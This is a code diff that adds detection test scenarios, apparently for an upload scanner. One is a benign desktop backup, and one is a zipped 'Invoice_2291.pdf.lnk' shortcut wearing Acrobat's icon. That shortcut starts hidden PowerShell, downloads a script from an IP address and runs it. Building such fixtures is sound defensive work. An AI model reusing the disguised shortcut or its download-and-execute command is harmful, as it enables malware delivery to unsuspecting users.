@@ -1295,6 +1295,19 @@ def h_disk_images(ctx: Ctx) -> Traffic:
     return uploads(("isos/acme-tools-3.2.iso", installer), ("backups/photos-2026.img", photos))  # fmt: skip
 
 
+def h_desktop_shortcuts(ctx: Ctx) -> Traffic:
+    """A laptop's desktop backed up as a zip: shortcuts to the browser with the webmail's address, to the
+    team share, and to the administrator's logon script (PowerShell, hidden window: a review)."""
+    chrome = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
+    desktop = F.zip_of([
+        ("Desktop/Mail.lnk", F.shortcut(chrome, "https://mail.example.com")),
+        ("Desktop/Team share.lnk", F.shortcut(r"C:\Windows\explorer.exe", r"\\fs01\team")),
+        ("Desktop/Map drives.lnk", F.shortcut(POWERSHELL, r"-ExecutionPolicy Bypass -WindowStyle Hidden -File \\fs01\netlogon\map.ps1")),
+        ("Desktop/todo.txt", b"renew the lease"),
+    ])  # fmt: skip
+    return uploads(("backups/laptop-desktop.zip", desktop))
+
+
 def h_spanish_customer_list(ctx: Ctx) -> Traffic:
     """A Spanish shop's customer list: 400 mobile numbers written 6xx xxx xxx (a tenth of them pass the
     Luhn check a Canadian SIN carries) beside notes that say "sin" ("without"), and a delivery list whose
@@ -2018,6 +2031,20 @@ def a_iso_disguised_executable(ctx: Ctx) -> Traffic:
     return uploads(("mail/invoice-2291.iso", image))
 
 
+POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+
+
+def a_shortcut_download(ctx: Ctx) -> Traffic:
+    """A zipped shortcut shown as a PDF (Windows hides ``.lnk``), with Acrobat's icon, that starts
+    PowerShell hidden to download a script and run it: the delivery of 2022-2024's mail campaigns."""
+    lnk = F.shortcut(
+        POWERSHELL,
+        '-w hidden -c "iwr http://185.225.74.12/inv.ps1 -OutFile $env:TEMP\\i.ps1; & $env:TEMP\\i.ps1"',
+        icon=r"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe",
+    )
+    return uploads(("mail/Invoice_2291.zip", F.zip_of([("Invoice_2291.pdf.lnk", lnk)])))  # fmt: skip
+
+
 def a_follina_link(ctx: Ctx) -> Traffic:
     """Follina's document (CVE-2022-30190): a .docx whose linked OLE object is an external page ending
     ``!``, which Word hands to MSHTML as it opens (the page then calls ``ms-msdt:``), and its variant
@@ -2658,6 +2685,13 @@ SCENARIOS: list[Scenario] = [
         h_disk_images,
     ),
     Scenario(
+        "desktop-shortcuts",
+        H,
+        "standard",
+        "a desktop backup's shortcuts: the browser on the webmail, the team share, the logon script",
+        h_desktop_shortcuts,
+    ),
+    Scenario(
         "team-rota-workbooks",
         H,
         "standard",
@@ -2980,6 +3014,14 @@ SCENARIOS: list[Scenario] = [
         a_iso_disguised_executable,
         ("I3",),
         fast=True,
+    ),
+    Scenario(
+        "shortcut-powershell-download",
+        A,
+        "standard",
+        "a zipped Invoice_2291.pdf.lnk starting PowerShell hidden to download and run a script",
+        a_shortcut_download,
+        ("I3",),
     ),
     Scenario(
         "follina-external-ole-link",
